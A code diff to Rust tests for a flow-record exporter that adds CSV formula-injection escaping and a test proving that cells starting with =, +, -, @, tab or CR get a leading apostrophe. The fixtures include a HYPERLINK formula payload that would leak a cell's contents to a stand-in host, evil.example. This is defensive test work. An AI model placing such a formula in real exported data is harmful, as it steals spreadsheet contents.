@@ -17,11 +17,17 @@ fn reference_rfc3339_ns(unix_ns: i64) -> String {
     }
 }
 
-fn reference_csv_field(s: &str) -> std::borrow::Cow<'_, str> {
+/// A text field: a `'` before a text a spreadsheet would run (the documented rule), then
+/// RFC 4180 quoting.
+fn reference_csv_field(s: &str) -> String {
+    let s = match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_owned(),
+    };
     if s.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", s.replace('"', "\"\"")).into()
+        format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.into()
+        s
     }
 }
 
@@ -238,8 +244,16 @@ fn records() -> Vec<FlowRecord> {
         "ctl\u{1}\u{1f}\u{7f}",
         "emoji🦀",
         "\u{2028}",
+        "=cmd",
+        "-a1-b1.example",
+        "+1",
+        "@SUM(A1)",
+        "\tlead",
+        "\rlead",
+        "'quoted",
+        "a=b",
     ];
-    let rules: [Option<&str>; 9] = [
+    let rules: [Option<&str>; 11] = [
         None,
         Some(""),
         Some("/etc/xdp-audit/block.list:12"),
@@ -249,6 +263,8 @@ fn records() -> Vec<FlowRecord> {
         Some("new\nline:1"),
         Some("é/ü.list:9"),
         Some("back\\slash\u{0}:2"),
+        Some("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")"),
+        Some("-a1-b1.example"),
     ];
     let ips: [IpAddr; 16] = [
         Ipv4Addr::new(0, 0, 0, 0).into(),
@@ -431,6 +447,45 @@ fn the_nat_table_is_byte_identical_to_the_reference() {
         assert_eq!(g, e);
     }
     assert!(got == want.as_bytes(), "NAT table differs");
+}
+
+/// A text cell starting with `=`, `+`, `-`, `@`, TAB or CR is a formula to a spreadsheet: CSV
+/// puts a `'` before it (OWASP), quoting as RFC 4180 needs; numbers and fixed names are
+/// written as they are, and JSON Lines carries the exact text.
+#[test]
+fn csv_text_cells_a_spreadsheet_would_run_are_prefixed() {
+    let mut g = TrafficGen::new(3, 1_700_000_000_000_000_000);
+    let mut r = g.next_record();
+    r.iface = "@eth0".into();
+    r.rule = None;
+    r.attr.user = Some("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")".into());
+    r.attr.hostname = Some("+host".into());
+    r.attr.domain = Some("\tsite.example".into());
+    r.attr.domain_source = None;
+    r.attr.dns_qname = Some("-a1-b1.example".into());
+    r.attr.dns_qtype = Some(1);
+    r.attr.nat_ip = None;
+    r.attr.nat_port = Some(0);
+    let csv = String::from_utf8(written(Format::Csv, &[r.clone()])).expect("utf-8");
+    let row = csv.lines().nth(1).expect("a row");
+    assert!(row.contains(",'@eth0,"), "{row}");
+    assert!(
+        row.contains(
+            ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'+host,,0,'\tsite.example,,'-a1-b1.example,1"
+        ),
+        "{row}"
+    );
+    // A number is never prefixed; in this table none can start with `-` either.
+    assert!(!row.contains(",'0") && !row.contains(",'1"), "{row}");
+    let mut plain = Vec::new();
+    csv_text(&mut plain, "a-b=c");
+    assert_eq!(plain, b"a-b=c", "only the first character counts");
+    let json = String::from_utf8(written(Format::Jsonl, &[r])).expect("utf-8");
+    assert!(
+        json.contains("\"user\":\"=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A2,\\\"x\\\")\"")
+            && json.contains("\"dns_qname\":\"-a1-b1.example\""),
+        "JSON Lines keeps the exact text: {json}"
+    );
 }
 
 /// Old vs new cost per record on generated traffic:
